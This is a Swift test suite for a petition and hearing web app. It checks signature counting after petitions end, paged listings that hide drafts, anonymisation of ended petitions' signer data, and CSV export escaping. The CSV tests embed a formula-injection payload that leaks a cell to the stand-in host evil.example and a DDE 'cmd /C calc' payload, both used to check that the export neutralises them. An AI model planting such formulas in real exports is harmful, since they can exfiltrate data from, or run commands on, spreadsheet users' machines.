import Foundation
import HTTPTypes
@testable import HemicycleApp
import HemicycleCore
import HemicycleStorage
import Hummingbird
import HummingbirdTesting
import Testing

/// Issue 11, data: what is counted (nothing after a petition ends), what is exported (no spreadsheet formula), what is
/// listed (pages, by state, never drafts) and what is kept (anonymisation of every ended petition), over HTTP.
@Suite struct DataProtectionHTTPTests {
    enum Ending: String, CaseIterable, CustomTestStringConvertible {
        case close, reject, hide
        var testDescription: String { rawValue }
    }

    func lastToken(_ store: InMemoryStore) async throws -> String {
        let mail = try #require(await store.outboxMail().last)
        return String(try #require(mail.body.firstMatch(of: /\/confirm\/([A-Za-z0-9_-]+)/)?.1))
    }

    /// Ends the demo petition as a moderator (reject, hide) or the scheduler (close) would.
    func end(_ ending: Ending, client: some TestClientProtocol, store: InMemoryStore) async throws {
        switch ending {
        case .close:
            var petition = try #require(try await store.petition(.init(1)))
            try petition.apply(.close, at: .now)
            try await store.updatePetition(petition, audit: nil)
        case .reject, .hide:
            let moderator = Browser()
            try await moderator.logIn(client, "pmod@example.org")
            let body = ending == .reject ? #"{"action":"reject","code":"duplicate"}"# : #"{"action":"hide"}"#
            let response = try await moderator.send(client, .post, "/api/v1/petitions/1/moderation", json: body)
            #expect(response.status == .ok, "\(response.text)")
        }
    }

    @Test(arguments: Ending.allCases)
    func aSignatureConfirmedAfterThePetitionEndedIs409AndCountsNothing(_ ending: Ending) async throws {
        let (app, store) = try await HearingFixture.make { $0.signatureConfirmation = .email }
        try await app.test(.router) { client in
            let signer = Browser()
            _ = try await signer.send(client, .post, "/api/v1/petitions/1/signatures", json: #"{"name":"Early","email":"early@example.org"}"#)
            _ = try await signer.send(client, .post, "/confirm/\(try await lastToken(store))", json: "{}")
            #expect(try await store.petition(.init(1))?.signatureCount == 1)
            _ = try await signer.send(client, .post, "/api/v1/petitions/1/signatures", json: #"{"name":"Late","email":"late@example.org"}"#)
            let token = try await lastToken(store)
            try await end(ending, client: client, store: store)
            let tallies = try await store.tallies(of: .init(1))

            for attempt in 1...2 {
                let response = try await signer.send(client, .post, "/confirm/\(token)", json: "{}")
                #expect(response.status == .conflict, "attempt \(attempt): \(response.text)")
                #expect(response.errorCode == "petition_not_open", "attempt \(attempt): the same answer every time, the link is not spent")
            }
            // The page behind the emailed link says why.
            let page = try await signer.send(client, .get, "/confirm/\(token)")
            let csrf = try #require(page.text.firstMatch(of: /name="csrf_token" value="([^"]+)"/)?.1)
            let answer = try await signer.send(client, .post, "/confirm/\(token)", form: "csrf_token=\(csrf)")
            #expect(answer.status == .conflict)
            #expect(answer.headers[.contentType]?.hasPrefix("text/html") == true)
            let why = ["close": "the petition has closed", "reject": "the petition was rejected", "hide": "the petition was withdrawn"][ending.rawValue] ?? "?"
            #expect(answer.text.contains("This confirmation was not counted: \(why)"), "\(answer.text)")

            #expect(try await store.petition(.init(1))?.signatureCount == 1, "the count did not move")
            #expect(try await store.storedSignatureCount(.init(1)) == 1)
            #expect(try await store.tallies(of: .init(1)) == tallies, "no tally moved")
        }
    }

    @Test func heldSignaturesOfAClosedPetitionAreNotReleased() async throws {
        let (app, store) = try await HearingFixture.make { _ = $0.petitions.setSignRateLimits(["1/3600"]) }
        try await app.test(.router) { client in
            let signer = Browser(), moderator = Browser()
            _ = try await signer.send(client, .post, "/api/v1/petitions/1/signatures", json: #"{"name":"One","email":"one@example.org"}"#)
            let held = try await signer.send(client, .post, "/api/v1/petitions/1/signatures", json: #"{"name":"Two","email":"two@example.org"}"#)
            #expect(held.json?["state"]?.stringValue == "held")
            try await end(.close, client: client, store: store)
            try await moderator.logIn(client, "pmod@example.org")
            let audits = try await store.auditLog(limit: 500).count
            var response = try await moderator.send(client, .post, "/api/v1/signatures/release", json: #"{"petition_id":1}"#)
            #expect(response.status == .conflict && response.errorCode == "petition_not_open", "\(response.text)")
            response = try await moderator.send(client, .post, "/api/v1/signatures/release", json: #"{"email_domain":"example.org"}"#)
            #expect(response.status == .conflict && response.errorCode == "petition_not_open", "a condition over several petitions: \(response.text)")
            #expect(try await store.petition(.init(1))?.signatureCount == 1)
            #expect(try await store.signatures(matching: SignatureFilter(states: [.held]), limit: 10).count == 1, "still held")
            #expect(try await store.auditLog(limit: 500).count == audits, "nothing recorded: nothing happened")
        }
    }

    // MARK: - CSV

    static let formula = #"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#

    @Test func everyCSVNeutralisesFormulas() async throws {
        let store = try await HearingFixture.store()
        let now = Timestamp.now
        await store.put(Petition(
            id: .init(2), action: Self.formula, background: "B", additionalDetails: "", state: .open, signatureCount: 3, creatorName: "C",
            createdAt: now, updatedAt: now, openedAt: now, closedAt: nil, closingAt: now.adding(days: 10), thresholds: []
        ))
        let (app, _) = try await TestApp.make(store: store)
        try await app.test(.router) { client in
            let b = Browser()
            var response = try await b.send(client, .get, "/petitions.csv")
            #expect(response.headers[.contentType]?.hasPrefix("text/csv") == true)
            #expect(response.text.contains(#""'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")","#), "\(response.text)")
            #expect(!response.text.contains(#""=HYPERLINK"#))

            // A question whose text and name start like formulas, published, in the record; and the moderation log.
            let viewer = Browser(), moderator = Browser()
            _ = try await viewer.send(client, .get, "/sittings/1")
            response = try await viewer.send(client, .post, "/api/v1/sittings/1/questions",
                                             json: #"{"text":"+cmd|' /C calc'!A0 is this a question?","name":"@SUM(1+1)","region":"-1+2"}"#)
            let id = try #require(response.json?["id"]?.intValue, "\(response.text)")
            try await moderator.logIn(client, "mod1@example.org")
            _ = try await moderator.send(client, .post, "/api/v1/questions/\(id)/moderation", json: #"{"action":"approve"}"#)
            response = try await b.send(client, .get, "/sittings/1/record.csv")
            #expect(response.text.contains(#""'+cmd|' /C calc'!A0 is this a question?""#), "\(response.text)")
            #expect(response.text.contains(#""'@SUM(1+1)""#) && response.text.contains(#""'-1+2""#))
            response = try await b.send(client, .get, "/sittings/1/moderation-log.csv")
            #expect(response.text.hasPrefix(#""time","question_id","action","state""#), "the one writer: every field quoted")
            #expect(response.text.contains("\r\n"))
        }
    }

    // MARK: - Listings

    /// Thousands of drafts (creation is open to anyone) appear in no public listing, and every listing reads a bounded
    /// page by state: the store is never asked for drafts on a public page, nor for more than a page.
    @Test func aFloodOfDraftsReachesNoPublicListing() async throws {
        let store = try await HearingFixture.store()
        let now = Timestamp.now
        for n in 0..<(PetitionQuery.maxLimit + 50) {
            _ = try await store.createPetition(
                Petition(id: .init(1), action: "Spam draft \(n)", background: "Spam", additionalDetails: "", state: .pending, signatureCount: 0,
                         creatorName: nil, createdAt: now, updatedAt: now, openedAt: nil, closedAt: nil, closingAt: nil, thresholds: []),
                creator: try SignatureRequest(name: "Spammer", email: "spam\(n)@example.org").validated().get(), sponsorToken: "t\(n)",
                token: EmailToken(hash: "h\(n)", purpose: .creator, subject: 0, expiresAt: now.adding(days: 7)),
                mail: OutgoingMail(to: "spam\(n)@example.org", subject: "S", body: "B")
            )
        }
        let (app, _) = try await TestApp.make(store: store)
        let setUp = await store.petitionListings().count  // declaring the live topics at start
        try await app.test(.router) { client in
            let b = Browser()
            for path in ["/", "/petitions.json", "/petitions.json?state=all&count=50&page=3", "/petitions.json?q=spam", "/petitions.csv",
                         "/feeds/petitions.atom", "/feeds/thresholds.atom", "/feeds/responses.atom", "/api/v1/dashboard", "/dashboard"] {
                let response = try await b.send(client, .get, path)
                #expect(response.status == .ok, "\(path)")
                #expect(!response.text.contains("Spam draft"), "\(path) lists a draft")
            }
            let list = try await b.send(client, .get, "/petitions.json")
            #expect(list.json?["data"]?.arrayValue?.compactMap { $0["id"]?.intValue } == [1], "the demo only")
            #expect(list.json?["links"]?["last"]?.stringValue?.contains("page=1") == true)
        }
        // The scheduler (it runs at start) looks for drafts past `--abandon-after-days`, a page at a time: that is not a
        // public listing.
        let scheduler = { (query: PetitionQuery) in query.states == [.pending, .validated] && query.createdBefore != nil }
        let asked = await store.petitionListings().dropFirst(setUp).filter { !scheduler($0.query) || $0.limit > PetitionQuery.maxLimit }
        #expect(!asked.isEmpty)
        for call in asked {
            #expect(call.query.states.isSubset(of: PetitionQuery.publicStates), "a public page asked for \(call.query.states)")
            #expect(call.limit <= PetitionQuery.maxLimit, "a page of \(call.limit)")
        }
        #expect(await store.petitionListings().prefix(setUp).allSatisfy { $0.query.states.isSubset(of: PetitionQuery.publicStates) },
                "declaring live topics at start reads public petitions only")
    }

    @Test func theModerationQueueComesInPages() async throws {
        let store = try await HearingFixture.store()
        let now = Timestamp.now
        var ids: [Int64] = []
        for n in 0..<5 {
            var created = try await store.createPetition(
                Petition(id: .init(1), action: "Waiting \(n)", background: "B", additionalDetails: "", state: .pending, signatureCount: 0,
                         creatorName: nil, createdAt: now, updatedAt: now, openedAt: nil, closedAt: nil, closingAt: nil, thresholds: []),
                creator: try SignatureRequest(name: "Cy", email: "cy\(n)@example.org").validated().get(), sponsorToken: "t\(n)",
                token: EmailToken(hash: "q\(n)", purpose: .creator, subject: 0, expiresAt: now.adding(days: 7)),
                mail: OutgoingMail(to: "cy\(n)@example.org", subject: "S", body: "B")
            )
            try created.apply(.creatorConfirmed, at: now)
            try created.apply(.sponsorsReached, at: now)
            try await store.updatePetition(created, audit: nil)
            ids.append(created.id.rawValue)
        }
        let (app, _) = try await TestApp.make(store: store)
        let queued = ids
        try await app.test(.router) { client in
            let ids = queued
            let moderator = Browser()
            try await moderator.logIn(client, "pmod@example.org")
            var response = try await moderator.send(client, .get, "/api/v1/petitions/moderation-queue?limit=2")
            #expect(response.json?["petitions"]?.arrayValue?.compactMap { $0["id"]?.intValue } == Array(ids[0..<2]), "oldest first, two")
            var next = try #require(response.json?["next"]?.stringValue)
            response = try await moderator.send(client, .get, next)
            #expect(response.json?["petitions"]?.arrayValue?.compactMap { $0["id"]?.intValue } == Array(ids[2..<4]))
            next = try #require(response.json?["next"]?.stringValue)
            response = try await moderator.send(client, .get, next)
            #expect(response.json?["petitions"]?.arrayValue?.compactMap { $0["id"]?.intValue } == [ids[4]])
            #expect(response.json?["next"] == .null, "the last page")
            #expect(try await moderator.send(client, .get, "/api/v1/petitions/moderation-queue?limit=1000").errorCode == "invalid_input")
            #expect(try await moderator.send(client, .get, "/api/v1/petitions/moderation-queue?after=x").errorCode == "invalid_input")
        }
    }

    // MARK: - Retention

    /// The scheduler inside the server abandons drafts whose time ran out, and anonymises rejected, hidden and
    /// abandoned petitions like closed ones.
    @Test func theSchedulerAbandonsStaleDraftsAndAnonymisesEveryEndedPetition() async throws {
        let store = try await HearingFixture.store()
        let longAgo = Timestamp.now.adding(days: -60)
        let draft = try await store.createPetition(
            Petition(id: .init(1), action: "Never confirmed", background: "B", additionalDetails: "", state: .pending, signatureCount: 0,
                     creatorName: nil, createdAt: longAgo, updatedAt: longAgo, openedAt: nil, closedAt: nil, closingAt: nil, thresholds: []),
            creator: try SignatureRequest(name: "Drafty Person", email: "drafty@example.org", postcode: "AB1 2CD").validated().get(), sponsorToken: "t",
            token: EmailToken(hash: "never", purpose: .creator, subject: 0, expiresAt: longAgo.adding(days: 7)),
            mail: OutgoingMail(to: "drafty@example.org", subject: "S", body: "B")
        )
        let fresh = try await store.createPetition(
            Petition(id: .init(1), action: "Just started", background: "B", additionalDetails: "", state: .pending, signatureCount: 0,
                     creatorName: nil, createdAt: .now, updatedAt: .now, openedAt: nil, closedAt: nil, closingAt: nil, thresholds: []),
            creator: try SignatureRequest(name: "Fresh Person", email: "fresh@example.org").validated().get(), sponsorToken: "u",
            token: EmailToken(hash: "fresh", purpose: .creator, subject: 0, expiresAt: Timestamp.now.adding(days: 7)),
            mail: OutgoingMail(to: "fresh@example.org", subject: "S", body: "B")
        )
        _ = try await store.commitSignatures([
            PendingSignature(petitionID: .init(1), signature: try SignatureRequest(name: "Signer", email: "signer@example.org").validated().get(), address: "192.0.2.1"),
        ], now: .now)
        var demo = try #require(try await store.petition(.init(1)))
        try demo.apply(.reject(PetitionRejection(code: "duplicate")), at: .now)
        try await store.updatePetition(demo, audit: nil)

        let (app, _) = try await TestApp.make(store: store) { configuration in
            configuration.schedulerInterval = .milliseconds(50)
            configuration.petitions.abandonAfterDays = 30
            configuration.petitions.anonymiseAfterDays = 0
        }
        @Sendable func erased(_ id: Petition.ID) async throws -> Bool {
            let rows = try await store.signatures(matching: SignatureFilter(petition: id), limit: 10)
            return !rows.isEmpty && rows.allSatisfy { $0.name.isEmpty && $0.email.hasPrefix("anonymised-") && $0.postcode == nil && $0.address == nil }
        }
        try await app.test(.live) { _ in
            let deadline = ContinuousClock.now.advanced(by: .seconds(10))
            while ContinuousClock.now < deadline {
                if try await erased(draft.id), try await erased(.init(1)) { break }
                try await Task.sleep(for: .milliseconds(50))
            }
        }
        let abandoned = try #require(try await store.petition(draft.id))
        #expect(abandoned.state == .abandoned && abandoned.abandonedAt != nil, "a draft 60 days old, never confirmed")
        #expect(try await erased(draft.id), "its creator's name, email and postcode are gone")
        #expect(abandoned.creatorName == nil)
        #expect(try await erased(.init(1)), "the rejected petition's signers too")
        #expect(try await store.petition(.init(1))?.signatureCount == 1, "the count stays")
        #expect(try await store.petition(fresh.id)?.state == .pending, "a fresh draft is left alone")
        #expect(try await !erased(fresh.id))
        #expect(try await store.auditLog(limit: 100).contains { $0.action == "petition_abandoned" && $0.subject == "petition:\(draft.id)" })
    }
}

/// The CSV writer on its own.
@Suite struct CSVWriterTests {
    @Test(arguments: ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\r\nx"])
    func aFieldThatStartsLikeAFormulaIsNeutralised(_ value: String) {
        let field = CSV.field(value)
        #expect(field.hasPrefix("\"'"), "\(value.debugDescription) -> \(field.debugDescription)")
        #expect(field.hasSuffix("\""))
    }

    @Test func otherFieldsAreOnlyQuoted() {
        #expect(CSV.field("Plant trees") == #""Plant trees""#)
        #expect(CSV.field("a \"quote\"") == #""a ""quote""""#)
        #expect(CSV.field("x=1") == #""x=1""#, "only the first character matters")
        #expect(CSV.field("") == #""""#)
        #expect(CSV.field("'=already") == #""'=already""#)
        #expect(CSV.document(header: ["a", "b"], rows: [["1", "-2"]]) == "\"a\",\"b\"\r\n\"1\",\"'-2\"\r\n")
    }
}
